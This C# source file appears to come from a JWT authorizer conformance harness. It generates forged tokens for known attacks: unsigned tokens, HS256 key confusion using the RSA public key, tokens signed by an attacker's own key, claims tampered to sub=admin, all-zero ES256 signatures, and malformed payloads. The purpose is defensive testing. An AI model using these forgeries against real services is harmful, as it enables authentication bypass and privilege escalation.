using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;

namespace AuthorizerConformance.Harness.Tokens;

public static partial class JwtAttacks
{
    private static string Valid(AttackInput input) => TokenFactory.Mint(input.Claims, input.Alg, input.Key);

    private static string WithClaims(AttackInput input, Func<ClaimsBuilder, ClaimsBuilder> edit) =>
        TokenFactory.Mint(edit(ClaimsBuilder.FromJson(input.Claims.ToJsonString())).Build(), input.Alg, input.Key);

    private static string WithoutSignature(string token) => token[..token.LastIndexOf('.')];

    private static string Unsigned(AttackInput input, string alg) =>
        $"{TokenFactory.Encode(TokenFactory.Header(alg, null).ToJsonString())}.{TokenFactory.Encode(input.Claims.ToJsonString())}.";

    private static string KeyConfusion(AttackInput input)
    {
        var rsa = input.Key.Rsa ?? throw new ArgumentException("hs256-with-rs-public-key needs an RSA key (--key with an RSA private key)");
        // The attacker knows only the public key; a verifier that lets the token pick HS256 would use it as the secret.
        using var secret = SigningKey.Hmac(Encoding.ASCII.GetBytes(rsa.ExportSubjectPublicKeyInfoPem()));
        return SignedWithHeader(input, TokenFactory.Header("HS256", input.Key.Kid), secret, "HS256");
    }

    private static string HmacWithKid(AttackInput input, string kid, byte[] secret)
    {
        using var key = SigningKey.Hmac(secret);
        return SignedWithHeader(input, TokenFactory.Header("HS256", kid), key, "HS256");
    }

    // The attacker's own key pair: generated once per process (RSA generation is slow), never trusted by anyone.
    private static readonly Lazy<SigningKey> AttackerKey = new(() => SigningKey.GenerateRsa(2048, "attacker-key"));

    /// <summary>Generates the attacker's key now (≈ 0.2 s of CPU for RSA-2048) if it is not yet: a run can call this on
    /// another thread at its start so its first attack scenario does not wait for it.</summary>
    public static void GenerateAttackerKey() => _ = AttackerKey.Value;

    private static string Foreign(AttackInput input, Action<JsonObject, SigningKey> addToHeader)
    {
        var attacker = AttackerKey.Value;
        var header = TokenFactory.Header("RS256", attacker.Kid);
        addToHeader(header, attacker);
        return SignedWithHeader(input, header, attacker, "RS256");
    }

    private static string SignedWithHeader(AttackInput input, JsonObject header, SigningKey key, string alg) =>
        TokenFactory.Sign(TokenFactory.Encode(header.ToJsonString()), TokenFactory.Encode(input.Claims.ToJsonString()), alg, key);

    private static string Tampered(AttackInput input)
    {
        var parts = Valid(input).Split('.');
        var changed = ClaimsBuilder.FromJson(input.Claims.ToJsonString()).Set("sub", "admin").Set("admin", true).Build();
        return $"{parts[0]}.{TokenFactory.Encode(changed.ToJsonString())}.{parts[2]}";
    }

    private static string Psychic(AttackInput input)
    {
        var header = TokenFactory.Header("ES256", input.Key.Ec is not null ? input.Key.Kid : null);
        return $"{TokenFactory.Encode(header.ToJsonString())}.{TokenFactory.Encode(input.Claims.ToJsonString())}.{TokenFactory.Encode(new byte[64])}";
    }

    private static string Truncate(string token)
    {
        var signatureStart = token.LastIndexOf('.') + 1;
        return token[..(signatureStart + ((token.Length - signatureStart) / 2))];
    }

    private static string StandardBase64(AttackInput input)
    {
        var claims = ClaimsBuilder.FromJson(input.Claims.ToJsonString()).Build();
        // Pad the JSON until its length is not a multiple of 3, so standard base64 must end in '='.
        var json = claims.ToJsonString();
        for (var filler = "x"; Encoding.UTF8.GetByteCount(json) % 3 == 0; filler += "x")
        {
            claims["note"] = filler;
            json = claims.ToJsonString();
        }
        var header = TokenFactory.Encode(TokenFactory.Header(input.Alg, input.Key.Kid).ToJsonString());
        return TokenFactory.Sign(header, Convert.ToBase64String(Encoding.UTF8.GetBytes(json)), input.Alg, input.Key);
    }

    private static string RawPayload(AttackInput input, Func<string, string> edit)
    {
        var json = input.Claims.ToJsonString();
        var duplicated = input.Claims.ContainsKey("sub") ? edit(json) : json[..^1] + ",\"sub\":\"user-123\",\"sub\":\"admin\"}";
        var header = TokenFactory.Encode(TokenFactory.Header(input.Alg, input.Key.Kid).ToJsonString());
        return TokenFactory.Sign(header, TokenFactory.Encode(duplicated), input.Alg, input.Key);
    }

    private static string InvalidUtf8(AttackInput input)
    {
        var json = Encoding.UTF8.GetBytes(input.Claims.ToJsonString());
        // ,"name":"<0xC3 0x28>"}  — 0xC3 starts a two-byte sequence that 0x28 cannot continue.
        byte[] bad = [.. json[..^1], .. ",\"name\":\""u8.ToArray(), 0xC3, 0x28, .. "\"}"u8.ToArray()];
        var header = TokenFactory.Encode(TokenFactory.Header(input.Alg, input.Key.Kid).ToJsonString());
        return TokenFactory.Sign(header, TokenFactory.Encode(bad), input.Alg, input.Key);
    }
}
